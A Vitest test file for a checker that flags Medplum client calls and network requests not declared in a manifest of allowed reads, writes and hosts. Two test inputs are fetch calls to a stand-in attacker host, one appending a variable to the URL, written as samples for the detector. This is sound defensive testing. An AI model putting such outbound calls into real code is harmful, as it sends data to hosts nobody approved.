import { describe, expect, it } from 'vitest';
import { undeclaredUses } from './undeclared.ts';

const manifest = { reads: ['Patient'], writes: ['Flag'], egress: ['api.example.org'] };

describe('undeclaredUses', () => {
  it.each([
    [`await medplum.searchResources('Condition', {})`, ['reads Condition']],
    [`await medplum.readResource("Patient", id)`, []],
    [`await medplum.deleteResource('Flag', id); await medplum.patchResource('Patient', id, [])`, ['writes Patient']],
    [`medplum.createResource({ status: 'active', resourceType: 'Task' })`, ['writes Task']],
    [`medplum.createResource({ resourceType: 'Flag', status: 'active' })`, []],
    [`await fetch('https://api.example.org/v1')`, []],
    [`await fetch("https://evil.example/" + name)`, ['calls evil.example']],
    ['await fetch(`https://evil.example/x`)', ['calls evil.example']],
    [`const system = 'http://loinc.org';`, []],
  ])('%s', (code, uses) => {
    expect(undeclaredUses(code, manifest)).toEqual(uses);
  });
});
